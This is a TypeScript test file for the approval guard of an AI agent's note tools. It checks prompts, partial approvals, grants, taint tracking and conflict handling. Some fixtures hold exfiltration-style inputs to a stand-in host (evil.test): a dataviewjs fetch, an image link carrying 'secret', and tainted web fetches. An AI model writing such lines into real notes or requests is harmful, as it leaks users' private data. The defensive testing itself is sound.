import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { sent, setUp, webFetch } from '../../../test/tools/guarded-tools.js'
import { writeNote } from '../tools/file/write-note.js'
import { type ProposedCall, type Registry, runTool, type Tool, type ToolContext } from '../tools/index.js'
import { type ApprovalAnswer, type ApprovalEvent, memoryGrants } from './index.js'

const yes: ApprovalAnswer = { verdict: 'allow' }
const no: ApprovalAnswer = { verdict: 'deny' }
const edit = (from: string, to: string) => ({ path: 'Inbox/A.md', old_text: from, new_text: to })

describe('a dry run', () => {
  const rename = { path: 'Projects/Plan.md', new_path: 'Projects/Map.md' }

  it('reveals nothing of a change to notes that may not be read, and does not ask about the rest', async () => {
    const desk = await setUp({ rules: ['deny: reads(folder:Journal)'], answers: [no] })
    const { tools, guard, log, context } = desk
    const setup = { registry: tools, context, guard, log, apply: context.apply, dryRun: true }
    const hidden = await runTool({ id: '1', name: 'rename_note', input: rename }, setup)
    expect(hidden).toMatchObject({ ok: false, code: 'denied' })
    expect(JSON.stringify(hidden)).not.toContain('Monday')
    expect(await runTool({ id: '2', name: 'edit_note', input: edit('beta', 'BETA') }, setup)).toMatchObject({
      ok: true,
    })
    expect(desk.asked).toEqual([])
  })

  it('shows a change at a level that would not let it happen', async () => {
    const { tools, guard, log, context } = await setUp({ level: 'read-only' })
    const setup = { registry: tools, context, guard, log, apply: context.apply, dryRun: true }
    expect(await runTool({ id: '1', name: 'rename_note', input: rename }, setup)).toMatchObject({ ok: true })
  })
})

describe('a call that asks', () => {
  it('happens on a yes, and the user has seen what happens', async () => {
    const desk = await setUp({ answers: [yes] })
    expect(await desk.call('edit_note', edit('beta', 'BETA'))).toMatchObject({ ok: true })
    expect(desk.text('Inbox/A.md')).toBe('alpha\n\nBETA\n\ngamma\n')
    expect(desk.asked).toMatchObject([
      {
        kind: 'call',
        tool: { name: 'edit_note', source: 'built-in' },
        input: edit('beta', 'BETA'),
        reasons: ["This edits a note, so I'm asking first."],
        notes: [{ path: 'Inbox/A.md', access: 'writes' }],
        scopes: ['once', 'change-set', 'session', 'always'],
        offers: [
          { rule: 'edit_note(Inbox/A.md)', about: 'note' },
          { rule: 'edit_note(Inbox/**)', about: 'folder' },
          { rule: 'edit_note', about: 'tool' },
        ],
        safeDefault: 'deny',
      },
    ])
    expect(desk.asked[0].changes?.[0].diff).toContain('-beta\n+BETA')
    expect(desk.log.calls).toMatchObject([{ decision: 'approved', rule: 'person' }])
  })

  it('does not happen on a no, in the words of the seed, with those of the user', async () => {
    const desk = await setUp({ answers: [no, no, { verdict: 'deny', words: 'not my inbox' }] })
    const before = desk.context.memory.snapshot()
    expect((await desk.call('edit_note', edit('beta', 'BETA'))).text).toBe('User cancelled tool execution')
    expect((await desk.call('write_note', { path: 'Inbox/A.md', content: 'x' })).text).toBe('User cancelled overwrite')
    expect((await desk.call('write_note', { path: 'Inbox/New.md', content: 'x' })).text).toBe(
      'User cancelled tool execution: not my inbox',
    )
    expect(desk.context.memory.snapshot()).toEqual(before)
    expect(desk.log.calls.map(({ decision }) => decision)).toEqual(['denied', 'denied', 'denied'])
  })

  it('leaves no change and nothing sent in the log when it is denied or a dry run', async () => {
    const desk = await setUp({ answers: [no] })
    const { tools, guard, log, context } = desk
    const calls: [string, unknown][] = [
      ['edit_note', edit('beta', 'BETA')],
      ['web_fetch', { url: 'https://a.test/?q=secret' }],
    ]
    for (const [name, input] of calls) {
      await desk.call(name, input)
      await runTool(
        { id: 'r', name, input },
        { registry: tools, context, guard, log, apply: context.apply, dryRun: true },
      )
    }
    expect(log.calls.map(({ decision }) => decision)).toEqual(['denied', 'dry-run', 'denied', 'dry-run'])
    for (const call of log.calls) {
      expect(call.change_set).toBeUndefined()
      expect(call.egress).toBeUndefined()
    }
  })

  it('is refused with advice for the model, and in the words of a user', async () => {
    const desk = await setUp({ answers: [no, { ...no, words: 'not my inbox' }] })
    for (const turn of ['t1', 't2']) {
      const refused = await desk.call('edit_note', edit('beta', 'BETA'), { turn })
      expect(refused).toMatchObject({ code: 'denied', forUser: 'You denied this.' })
      expect(refused).toMatchObject({ text: expect.stringMatching(/^User cancelled tool execution/) })
    }
  })

  it('is not asked twice in a turn once refused', async () => {
    const desk = await setUp({ answers: [no] })
    await desk.call('edit_note', edit('beta', 'BETA'))
    const again = await desk.call('edit_note', edit('beta', 'BETA'))
    expect(again).toMatchObject({
      code: 'denied',
      forUser: 'You denied this.',
      modelHint: expect.stringContaining('already denied'),
    })
    expect(desk.asked).toHaveLength(1)
    await desk.call('edit_note', edit('beta', 'BETA'), { turn: 't2' })
    expect(desk.asked).toHaveLength(2)
  })

  it('is refused when the note changes under the preview, and what someone else wrote stays', async () => {
    const desk = await setUp({
      answers: [
        (_request, { memory }) => {
          memory.write('Inbox/A.md', 'alpha\n\nbeta\n\ntheirs\n')
          return yes
        },
      ],
    })
    const result = await desk.call('edit_note', edit('beta', 'BETA'))
    expect(result).toMatchObject({ ok: false, code: 'conflict' })
    expect(result.text).toContain('changed since the preview')
    expect(desk.text('Inbox/A.md')).toBe('alpha\n\nbeta\n\ntheirs\n')
  })

  it.each<[string, ApprovalAnswer, Partial<ApprovalEvent>]>([
    ['all hunks', { verdict: 'allow', hunks: [{ change: 0, hunks: [0, 1] }] }, { verdict: 'allow' }],
    [
      'one hunk of two',
      { verdict: 'allow', hunks: [{ change: 0, hunks: [1] }] },
      { verdict: 'allow', part: { of: 'changes', allowed: 1, all: 2 } },
    ],
    ['no hunk', { verdict: 'allow', hunks: [{ change: 0, hunks: [] }] }, { verdict: 'deny' }],
    [
      'other arguments',
      { verdict: 'allow', input: { path: 'Inbox/B.md', content: 'x' } },
      { verdict: 'allow', edited: true },
    ],
  ])('is reported as what was allowed: %s', async (_name, answer, decided) => {
    const desk = await setUp({ answers: [answer, no] })
    await desk.call('write_note', { path: 'Inbox/A.md', content: 'ALPHA\n\nbeta\n\nGAMMA\n' })
    expect(desk.events.find(({ type }) => type === 'approval-decided')).toEqual({
      type: 'approval-decided',
      id: expect.any(String),
      by: 'person',
      ...decided,
    })
  })

  it('can be narrowed to some hunks, and the model learns of it', async () => {
    const desk = await setUp({ answers: [{ verdict: 'allow', hunks: [{ change: 0, hunks: [1] }] }] })
    const result = await desk.call('write_note', { path: 'Inbox/A.md', content: 'ALPHA\n\nbeta\n\nGAMMA\n' })
    expect(result).toMatchObject({ ok: true, userEdited: true, inPart: true })
    expect(result.text).toContain('The user accepted 1 of 2 changes in the diff. The others were not written.')
    expect(result.text).toContain('Done in part: Overwrite Inbox/A.md.')
    expect(result.text).not.toContain('successfully')
    expect(desk.log.calls[0].result).toBe('in part: Overwrite Inbox/A.md')
    expect(desk.asked[0].hunks).toMatchObject([
      { change: 0, path: 'Inbox/A.md', hunks: [{ oldLine: 1 }, { oldLine: 5 }] },
    ])
    expect(desk.text('Inbox/A.md')).toBe('alpha\n\nbeta\n\nGAMMA\n')
    expect(desk.log.calls).toMatchObject([{ decision: 'edited' }])
  })

  it('answers with what was really done when it is narrowed', async () => {
    const desk = await setUp({ answers: [{ verdict: 'allow', hunks: [{ change: 0, hunks: [1] }] }] })
    const block = (old: string) => `<<<<<<< SEARCH\n${old}\n=======\n${old}!\n>>>>>>> REPLACE\n`
    const result = await desk.call('edit_note', { path: 'Inbox/A.md', diff: block('alpha') + block('gamma') })
    expect(result).toMatchObject({ ok: true, output: { path: 'Inbox/A.md', replaced: 1, changed: true } })
    expect(desk.text('Inbox/A.md')).toBe('alpha\n\nbeta\n\ngamma!\n')
  })

  it('is offered as a whole when its tool cannot say what a part of it means', async () => {
    const whole: Tool = {
      ...writeNote,
      plan: async (...given) => ({ ...(await writeNote.plan!(...given)), inPart: undefined }),
    }
    const desk = await setUp({
      answers: [{ verdict: 'allow', hunks: [{ change: 0, hunks: [1] }] }],
      more: [{ ...whole, name: 'write_whole' }],
    })
    const result = await desk.call('write_whole', { path: 'Inbox/A.md', content: 'ALPHA\n\nbeta\n\nGAMMA\n' })
    expect(desk.asked[0].hunks).toBeUndefined()
    expect(result).toMatchObject({ ok: false })
    expect(desk.text('Inbox/A.md')).toBe('alpha\n\nbeta\n\ngamma\n')
  })

  it('cannot be narrowed to a part that other programs would run, where the whole is only text', async () => {
    const desk = await setUp({ answers: [{ verdict: 'allow', hunks: [{ change: 0, hunks: [1] }] }] })
    const content = '````text\nalpha\n\nbeta\n\n```dataviewjs\nrun()\n```\n````\n'
    const result = await desk.call('write_note', { path: 'Inbox/A.md', content })
    expect(desk.asked[0].notices.map(({ kind }) => kind)).not.toContain('executable')
    expect(result).toMatchObject({ ok: false, code: 'denied' })
    expect(desk.text('Inbox/A.md')).toBe('alpha\n\nbeta\n\ngamma\n')
  })

  it('takes no hunk at all for a no, and all of them for a plain yes', async () => {
    const hunks = (...accepted: number[]): ApprovalAnswer => ({
      verdict: 'allow',
      hunks: [{ change: 0, hunks: accepted }],
    })
    const desk = await setUp({ answers: [hunks(), hunks(0, 1)] })
    const input = { path: 'Inbox/A.md', content: 'ALPHA\n\nbeta\n\nGAMMA\n' }
    expect(await desk.call('write_note', input)).toMatchObject({ text: 'User cancelled overwrite' })
    expect(await desk.call('write_note', input, { turn: 't2' })).toMatchObject({ ok: true })
    expect(desk.log.calls[1]).toMatchObject({ decision: 'approved' })
    expect(desk.text('Inbox/A.md')).toBe('ALPHA\n\nbeta\n\nGAMMA\n')
  })

  it('is proposed and asked again when the user changes its arguments', async () => {
    const desk = await setUp({ answers: [{ verdict: 'allow', input: edit('beta', 'B') }, yes] })
    const result = await desk.call('edit_note', edit('beta', 'BETA'))
    expect(result).toMatchObject({ ok: true, userEdited: true })
    expect(desk.text('Inbox/A.md')).toBe('alpha\n\nB\n\ngamma\n')
    expect(desk.asked.map(({ edited }) => edited)).toEqual([false, true])
    expect(desk.asked[1].changes?.[0].diff).toContain('+B\n')
    expect(desk.log.calls).toMatchObject([{ decision: 'edited' }])
  })

  it('takes unchanged arguments for a plain yes', async () => {
    const desk = await setUp({
      answers: [{ verdict: 'allow', input: { new_text: 'B', old_text: 'beta', path: 'Inbox/A.md' } }],
    })
    expect(await desk.call('edit_note', edit('beta', 'B'))).toMatchObject({ ok: true })
    expect(desk.asked).toHaveLength(1)
  })

  it('needs approval where nobody can be asked, and names the rule that would let it pass', async () => {
    const desk = await setUp()
    const result = await desk.call('edit_note', edit('beta', 'BETA'))
    expect(result).toMatchObject({
      code: 'needs-approval',
      text: expect.stringContaining('Not done: this edits a note, which needs approval. '),
      hint: 'To allow it in advance, add the rule: allow: edit_note(Inbox/A.md)',
    })
    const locked = await setUp({ level: 'locked', answers: [yes] })
    expect(await locked.call('rename_note', { path: 'Projects/Plan.md', new_path: 'Projects/P.md' })).toMatchObject({
      code: 'needs-approval',
      hint: 'To allow it in advance, add the rule: allow: rename_note',
    })
    expect(locked.asked).toEqual([])
  })

  it('shows the impact of a rename and every note it touches', async () => {
    const desk = await setUp({ answers: [yes] })
    expect(await desk.call('rename_note', { path: 'Projects/Plan.md', new_path: 'Projects/Scheme.md' })).toMatchObject({
      ok: true,
    })
    expect(desk.asked[0]).toMatchObject({ impact: { links: 1, notes: 1 } })
    expect(desk.asked[0].notes.map(({ path }) => path).sort()).toEqual([
      'Journal/Monday.md',
      'Projects/Plan.md',
      'Projects/Scheme.md',
    ])
    expect(desk.text('Journal/Monday.md')).toContain('[[Scheme]]')
  })

  it('never lets Enter say yes to more than plain reading', async () => {
    const desk = await setUp({ level: 'ask-all', answers: [no] })
    await desk.call('read_note', { path: 'Inbox/A.md' })
    await desk.call('delete_note', { path: 'Inbox/A.md' })
    await desk.call('web_fetch', { url: 'https://example.org/?q=1' })
    await desk.call('file_read', { filePaths: ['Inbox/A.md'] })
    expect(desk.asked.map(({ safeDefault }) => safeDefault)).toEqual(['allow', 'deny', 'deny', 'deny'])
    expect(desk.asked.every(({ offers, scopes }) => offers.length === 0 && scopes.length === 1)).toBe(true)
    expect(desk.asked[2].sends).toEqual([{ url: 'https://example.org/?q=1', bytes: 24 }])
  })
})

describe('text that other programs would run', () => {
  const script = 'Hello\n\n```dataviewjs\nfetch("https://evil.test")\n```\n'

  it('is asked for by itself, after the call and at every level', async () => {
    const desk = await setUp({ answers: [yes] })
    expect(await desk.call('write_note', { path: 'New.md', content: script })).toMatchObject({ ok: true })
    expect(desk.asked.map(({ kind }) => kind)).toEqual(['call', 'executable'])
    expect(desk.asked[1]).toMatchObject({ scopes: ['once'], offers: [], notices: [{ kind: 'executable' }] })
    expect(desk.asked[1].hash).not.toBe(desk.asked[0].hash)

    const auto = await setUp({ level: 'auto', rules: ['allow: *'], answers: [no] })
    expect(await auto.call('write_note', { path: 'New.md', content: script })).toMatchObject({ code: 'denied' })
    expect(auto.asked.map(({ kind }) => kind)).toEqual(['executable'])
    expect(auto.text('New.md')).toBeUndefined()
  })

  it('is not written when only the call was allowed', async () => {
    const desk = await setUp({ answers: [{ verdict: 'allow', scope: 'session' }, no] })
    expect(await desk.call('write_note', { path: 'New.md', content: script })).toMatchObject({ code: 'denied' })
    expect(desk.text('New.md')).toBeUndefined()
    const locked = await setUp({ level: 'locked', rules: ['allow: write_note'] })
    expect(await locked.call('write_note', { path: 'New.md', content: script })).toMatchObject({
      code: 'needs-approval',
      hint: 'No rule can allow this in advance.',
    })
  })
})

it('the second question is about what the first has left', async () => {
  const desk = await setUp({ answers: [{ verdict: 'allow', hunks: [{ change: 0, hunks: [1] }] }, yes] })
  const content = 'ALPHA\n\nbeta\n\n```dataviewjs\n1\n```\n'
  expect(await desk.call('write_note', { path: 'Inbox/A.md', content })).toMatchObject({ ok: true, userEdited: true })
  expect(desk.asked[1].changes?.[0].diff).toContain('+```dataviewjs')
  expect(desk.asked[1].changes?.[0].diff).not.toContain('ALPHA')
  expect(desk.text('Inbox/A.md')).toBe('alpha\n\nbeta\n\n```dataviewjs\n1\n```\n')
})

it('arguments changed in the second question are asked about again, from the first question on', async () => {
  const content = 'Hello\n\n```dataviewjs\n1\n```\n'
  const desk = await setUp({ answers: [yes, { verdict: 'allow', input: { path: 'New.md', content: 'Hello' } }, yes] })
  expect(await desk.call('write_note', { path: 'New.md', content })).toMatchObject({ ok: true, userEdited: true })
  expect(desk.asked.map(({ kind, edited }) => [kind, edited])).toEqual([
    ['call', false],
    ['executable', false],
    ['call', true],
  ])
  expect(desk.text('New.md')).toBe('Hello')
})

describe('sharing notes', () => {
  const both = { filePaths: ['Inbox/A.md', 'Projects/Plan.md'] }

  it('gives the model what the user picked, and only that', async () => {
    const desk = await setUp({ answers: [{ verdict: 'allow', picked: ['Inbox/A.md'] }] })
    const result = await desk.call('file_read', both)
    expect(desk.asked[0].pick).toEqual(['Inbox/A.md', 'Projects/Plan.md'])
    expect(result).toMatchObject({ ok: true, userEdited: true, output: { files: [{ path: 'Inbox/A.md' }] } })
    expect(result.text).toContain('The user chose not to share: Projects/Plan.md')
    expect(result.text).not.toContain('The plan')
    expect(desk.log.calls).toMatchObject([{ decision: 'edited' }])
  })

  it('shares all at level auto, and where a rule names the tool; nothing when locked', async () => {
    expect((await (await setUp({ level: 'auto' })).call('file_read', both)).text).toContain('The plan')
    const allowed = await setUp({ rules: ['allow: file_read'] })
    expect(await allowed.call('file_read', both)).toMatchObject({ ok: true })
    const locked = await setUp({ level: 'locked' })
    expect(await locked.call('file_read', both)).toMatchObject({
      code: 'needs-approval',
      hint: 'To share all of them without asking, add the rule: allow: file_read',
    })
  })
})

describe('what the user remembers', () => {
  it('for the session passes without asking, until it is revoked', async () => {
    const desk = await setUp({ answers: [{ verdict: 'allow', scope: 'session', rule: 'edit_note(Inbox/**)' }, no] })
    await desk.call('edit_note', edit('beta', 'BETA'))
    await desk.call('edit_note', edit('gamma', 'GAMMA'))
    expect(desk.asked).toHaveLength(1)
    expect(desk.log.calls[1]).toMatchObject({ decision: 'allowed', rule: 'grant: edit_note(Inbox/**)' })
    const other = await desk.call('edit_note', edit('alpha', 'x'), { context: { session: 'another' } })
    expect(other).toMatchObject({ code: 'denied' })
    const [{ id, scope, rule }] = await desk.guard.grants()
    expect({ scope, rule }).toEqual({ scope: 'session', rule: 'edit_note(Inbox/**)' })
    expect(await desk.guard.revoke(id)).toBe(true)
    expect(await desk.guard.revoke(id)).toBe(false)
    expect(await desk.call('edit_note', edit('alpha', 'ALPHA'), { turn: 't2' })).toMatchObject({ code: 'denied' })
  })

  it('for always is kept as the literal rule, by default the narrowest', async () => {
    const grants = memoryGrants()
    const desk = await setUp({ grants, answers: [{ verdict: 'allow', scope: 'always' }] })
    await desk.call('edit_note', edit('beta', 'BETA'))
    expect(await grants.load()).toMatchObject([{ rule: 'edit_note(Inbox/A.md)', about: 'Edit note' }])
    const later = await setUp({ grants })
    expect(await later.call('edit_note', edit('beta', 'BETA'))).toMatchObject({ ok: true })
    expect(await later.call('edit_note', { ...edit('plan', 'plot'), path: 'Projects/Plan.md' })).toMatchObject({
      code: 'needs-approval',
    })
  })

  describe('for all of this turn', () => {
    const allOfTurn: ApprovalAnswer = { verdict: 'allow', scope: 'change-set' }
    const write = (path: string, content = 'x') => ['write_note', { path, content }] as const

    it.each<[string, ...(readonly [string, unknown])[]]>([
      [
        'edit_note',
        ['edit_note', edit('beta', 'B')],
        ['edit_note', { ...edit('plan', 'plot'), path: 'Projects/Plan.md' }],
      ],
      ['write_note', write('Inbox/New.md'), write('Projects/New.md'), write('Inbox/A.md'), write('Root.md')],
      ['write_note of a very large note', write('Inbox/New.md'), write('Inbox/Book.md', 'word '.repeat(10_000))],
      [
        'append_note',
        ['append_note', { path: 'Inbox/A.md', content: 'x' }],
        ['append_note', { path: 'Clip.md', content: 'y' }],
      ],
      ['delete_note', ['delete_note', { path: 'Clip.md' }], ['delete_note', { path: 'Inbox/A.md' }]],
      [
        'rename_note',
        ['rename_note', { path: 'Clip.md', new_path: 'Clip 2.md' }],
        ['rename_note', { path: 'Projects/Plan.md', new_path: 'Projects/Map.md' }],
      ],
    ])('covers every further call of the tool: %s', async (_name, ...calls) => {
      const desk = await setUp({ answers: [allOfTurn, no] })
      for (const [name, input] of calls) expect(await desk.call(name, input)).toMatchObject({ ok: true })
      expect(desk.asked).toHaveLength(1)
    })

    it('covers no other tool and no other turn', async () => {
      const desk = await setUp({ answers: [allOfTurn, no] })
      await desk.call('edit_note', edit('beta', 'BETA'))
      expect(await desk.call('delete_note', { path: 'Clip.md' })).toMatchObject({ code: 'denied' })
      expect(await desk.call('edit_note', edit('alpha', 'ALPHA'), { turn: 't2' })).toMatchObject({ code: 'denied' })
      expect(desk.asked).toHaveLength(3)
    })

    it('also covers calls that were already waiting, in other folders', async () => {
      const desk = await setUp({ answers: [allOfTurn, no] })
      const paths = ['Inbox/1.md', 'Projects/2.md', '3.md']
      const results = await Promise.all(paths.map((path) => desk.call(...write(path))))
      expect(results.map(({ ok }) => ok)).toEqual([true, true, true])
      expect(desk.asked).toHaveLength(1)
    })

    it('overrides neither a rule that denies nor a rule that asks', async () => {
      const rules = ['deny: writes(folder:Journal)', 'ask: writes(folder:Projects)']
      const desk = await setUp({ rules, answers: [allOfTurn, no] })
      expect(await desk.call(...write('Inbox/New.md'))).toMatchObject({ ok: true })
      expect(await desk.call(...write('Journal/New.md'))).toMatchObject({ code: 'denied' })
      expect(desk.asked).toHaveLength(1)
      expect(await desk.call(...write('Projects/New.md'))).toMatchObject({ code: 'denied' })
      expect(desk.asked).toHaveLength(2)
    })

    it('overrides nothing that asks because of what was read, runs or shows', async () => {
      const desk = await setUp({ answers: [allOfTurn, no] })
      expect(await desk.call(...write('Inbox/New.md'))).toMatchObject({ ok: true })
      await desk.call('read_note', { path: 'Clip.md' })
      await desk.call('read_note', { path: 'Inbox/A.md' })
      const texts = ['![](http://evil.test/?d=secret)', '```dataviewjs\ndv.current()\n```', '---\npublish: true\n---\n']
      for (const [at, text] of texts.entries()) {
        expect([text, await desk.call(...write(`Inbox/${at}.md`, text))]).toMatchObject([text, { code: 'denied' }])
      }
      expect(desk.asked).toHaveLength(1 + texts.length)
      expect(await desk.call(...write('Inbox/Plain.md'))).toMatchObject({ ok: true })
    })
  })

  it('never overrides a rule that asks, and nothing is offered to remember then', async () => {
    const grants = memoryGrants({ id: '1', rule: 'edit_note', createdAt: '2026-01-01T00:00:00Z' })
    const desk = await setUp({ grants, rules: ['ask: edit_note(Inbox/**)'], answers: [yes] })
    await desk.call('edit_note', edit('beta', 'BETA'))
    expect(desk.asked).toMatchObject([
      { scopes: ['once'], offers: [], reasons: ['A rule requires approval: edit_note(Inbox/**).'] },
    ])
  })

  it('is listed even when its tool is not there, and allows nothing then', async () => {
    const grants = memoryGrants({ id: '1', rule: 'mcp(gone/tool)', createdAt: '2026-01-01T00:00:00Z' })
    const desk = await setUp({ grants })
    expect(await desk.guard.grants()).toMatchObject([{ id: '1', waits: expect.stringContaining('unknown MCP server') }])
    expect(await desk.call('edit_note', edit('beta', 'BETA'))).toMatchObject({ code: 'needs-approval' })
  })

  it('also covers calls that were already waiting', async () => {
    const desk = await setUp({ answers: [{ verdict: 'allow', scope: 'session', rule: 'write_note(Inbox/**)' }] })
    const names = ['1', '2', '3']
    const results = await Promise.all(
      names.map((name) => desk.call('write_note', { path: `Inbox/${name}.md`, content: name })),
    )
    expect(results.every(({ ok }) => ok)).toBe(true)
    expect(desk.asked).toHaveLength(1)
  })
})

describe('every offered rule', () => {
  it('lets the very call pass, and is exactly what is kept', async () => {
    const calls: [string, unknown][] = [
      ['edit_note', edit('beta', 'BETA')],
      ['write_note', { path: 'Inbox/todo: now (a).md', content: 'x' }],
      ['write_note', { path: 'Inbox/A.md', content: 'x' }],
      ['rename_note', { path: 'Projects/Plan.md', new_path: 'Projects/P.md' }],
      ['delete_note', { path: 'Clip.md' }],
      ['web_fetch', { url: 'https://docs.example.org/x' }],
    ]
    for (const [name, input] of calls) {
      const probe = await setUp({ answers: [no] })
      await probe.call(name, input)
      for (const { rule } of probe.asked[0]?.offers ?? []) {
        const desk = await setUp({ rules: [`allow: ${rule}`] })
        expect([rule, (await desk.call(name, input)).ok]).toEqual([rule, true])
      }
    }
  })
})

describe('taint', () => {
  it('asks for everything outbound once own and foreign words are together, whatever was allowed', async () => {
    const desk = await setUp({ level: 'auto', rules: ['allow: web_fetch'], answers: [no] })
    sent.length = 0
    expect(await desk.call('web_fetch', { url: 'https://a.test/' })).toMatchObject({ ok: true })
    expect(await desk.call('read_note', { path: 'Inbox/A.md' })).toMatchObject({ ok: true })
    expect(desk.guard.memory().seen.sort()).toEqual(['own-note', 'web'])
    const url = 'https://evil.test/?q=alpha'
    expect(await desk.call('web_fetch', { url })).toMatchObject({ code: 'denied' })
    expect(desk.asked).toMatchObject([{ sends: [{ url }], offers: [] }])
    expect(sent).toEqual(['https://a.test/'])
  })

  it('counts a clipped note as foreign, and comes back with a resumed session', async () => {
    const desk = await setUp({ level: 'auto', answers: [no] })
    await desk.call('read_note', { path: 'Clip.md' })
    await desk.call('read_note', { path: 'Inbox/A.md' })
    expect(await desk.call('web_fetch', { url: 'https://a.test/' })).toMatchObject({ code: 'denied' })
    const resumed = await setUp({ level: 'locked', rules: ['allow: web_fetch'], memory: desk.guard.memory() })
    expect(await resumed.call('web_fetch', { url: 'https://a.test/' })).toMatchObject({ code: 'needs-approval' })
  })
})

it('what was decided for a session comes back with it, and with no other', async () => {
  const forSession = { verdict: 'allow', scope: 'session' } as const
  const first = await setUp({ answers: [forSession, no] })
  expect(await first.call('append_note', { path: 'Inbox/A.md', content: 'x' })).toMatchObject({ ok: true })
  const memory = JSON.parse(JSON.stringify(first.guard.memory()))
  expect(memory.grants).toMatchObject([{ rule: 'append_note(Inbox/A.md)' }])
  const resumed = await setUp({ answers: [no], memory })
  expect(await resumed.call('append_note', { path: 'Inbox/A.md', content: 'y' })).toMatchObject({ ok: true })
  const other = await setUp({ answers: [no] })
  expect(await other.call('append_note', { path: 'Inbox/A.md', content: 'z' })).toMatchObject({ code: 'denied' })
})

describe('stopping and crowds', () => {
  it('fifty deletions at once are never allowed by one yes', async () => {
    const notes = Object.fromEntries(Array.from({ length: 50 }, (_, at) => [`${at}.md`, `note ${at}`]))
    const desk = await setUp({ notes, answers: [yes] })
    const results = await Promise.all(Object.keys(notes).map((path) => desk.call('delete_note', { path })))
    expect(desk.asked).toHaveLength(1)
    expect(results.filter(({ ok }) => ok)).toHaveLength(1)
    expect(desk.log.calls).toHaveLength(50)
  })

  it('ends everything that waits when the run is stopped', async () => {
    const stop = new AbortController()
    const desk = await setUp({ deskOptions: { remote: true } })
    const calls = ['1.md', '2.md'].map((path) =>
      desk.call('write_note', { path, content: 'x' }, { context: { signal: stop.signal } }),
    )
    await new Promise((resolve) => setTimeout(resolve, 20))
    stop.abort(new Error('stopped'))
    for (const call of calls) await expect(call).rejects.toThrow('stopped')
    expect(desk.text('1.md')).toBeUndefined()
  })
})

describe('what was approved is what happens', () => {
  const fetching = (): ProposedCall => ({
    callId: 'c1',
    session: 'test',
    tool: webFetch,
    source: 'built-in',
    input: { url: 'https://a.test/' },
    effects: ['reaches-network'],
    notes: [],
    sends: [{ url: 'https://a.test/' }],
    edited: false,
  })

  it.each<[string, (call: ProposedCall) => void]>([
    ['an argument', (call) => Reflect.set(call.input as object, 'url', 'https://evil.test/')],
    ['the arguments', (call) => Object.assign(call, { input: { url: 'https://evil.test/' } })],
    ['an address', (call) => Object.assign(call.sends[0], { url: 'https://evil.test/' })],
    ['a payload', (call) => Object.assign(call.sends[0], { payload: 'CANARY' })],
    ['the tool', (call) => Object.assign(call, { tool: { ...webFetch, name: 'delete_note' } })],
    ['the session', (call) => Object.assign(call, { session: 'another' })],
    ['the notes', (call) => Object.assign(call, { pick: ['Journal/Monday.md'] })],
  ])('or nothing does, when %s is altered meanwhile', async (_what, alter) => {
    const call = fetching()
    const desk = await setUp({
      answers: [
        () => {
          alter(call)
          return yes
        },
      ],
    })
    expect(await desk.guard.decide(call, desk.context)).toMatchObject({
      verdict: 'deny',
      code: 'conflict',
      reason: 'The call changed after it was shown, so nothing was done.',
    })
    expect(await desk.guard.decide(fetching(), desk.context)).toMatchObject({ verdict: 'allow', loggedAs: 'approved' })
  })

  it('whatever changes while the panel is open: a note, another note, the call itself', async () => {
    const meddling = fc.record({
      what: fc.constantFrom('nothing', 'note', 'other note', 'remove', 'input', 'bytes', 'target', 'create'),
      content: fc.constantFrom('alpha\n\nbeta\n\nother\n', 'beta', 'alpha\n\nbeta\n\ngamma\n'),
    })
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('edit_note', 'write_note', 'append_note'),
        meddling,
        async (name, { what, content }) => {
          const proposed: { input?: object; changes?: { path: string; after?: Uint8Array }[] } = {}
          let shown = ''
          const desk = await setUp({
            answers: [
              (request, { memory }) => {
                shown = request.changes?.[0].diff ?? ''
                const change = proposed.changes?.[0]
                if (what === 'note') memory.write('Inbox/A.md', content)
                if (what === 'other note') memory.write('Projects/Plan.md', content)
                if (what === 'remove') memory.remove('Inbox/A.md')
                if (what === 'create') memory.write('Inbox/New.md', 'theirs')
                if (what === 'input') Reflect.set(proposed.input!, 'path', 'Projects/Plan.md')
                if (what === 'bytes' && change?.after) change.after.fill(120)
                if (what === 'target' && change) change.path = 'Projects/Plan.md'
                return yes
              },
            ],
          })
          const input =
            name === 'edit_note'
              ? edit('beta', 'BETA')
              : { path: name === 'write_note' ? 'Inbox/New.md' : 'Inbox/A.md', content: 'written' }
          const tool = desk.tools.find(name)!.tool
          const plan = tool.plan!
          const watched: Registry = {
            ...desk.tools,
            find: (wanted) =>
              wanted === name ? { tool: { ...tool, plan: watchedPlan }, source: 'built-in' } : undefined,
          }
          async function watchedPlan(given: object, context: ToolContext) {
            const made = await plan(given, context)
            Object.assign(proposed, { input: given, changes: made.changes.changes })
            return made
          }
          const theirs = () => new Map(desk.context.memory.snapshot())
          let before = theirs()
          const result = await runTool(
            { id: 'c', name, input },
            {
              registry: watched,
              context: desk.context,
              guard: desk.guard,
              log: desk.log,
              apply: (changes) => {
                before = theirs()
                return desk.context.apply(changes)
              },
            },
          )
          const touched = [...theirs()].filter(([path, bytes]) => before.get(path) !== bytes).map(([path]) => path)
          if (result.ok) {
            const path = name === 'write_note' ? 'Inbox/New.md' : 'Inbox/A.md'
            expect(touched).toEqual([path])
            expect(desk.text(path)).toContain(name === 'edit_note' ? 'BETA' : 'written')
            expect(shown).toContain(name === 'edit_note' ? '+BETA' : '+written')
          } else {
            expect(result.code).toBe('conflict')
          }
        },
      ),
      { numRuns: 120 },
    )
  })
})
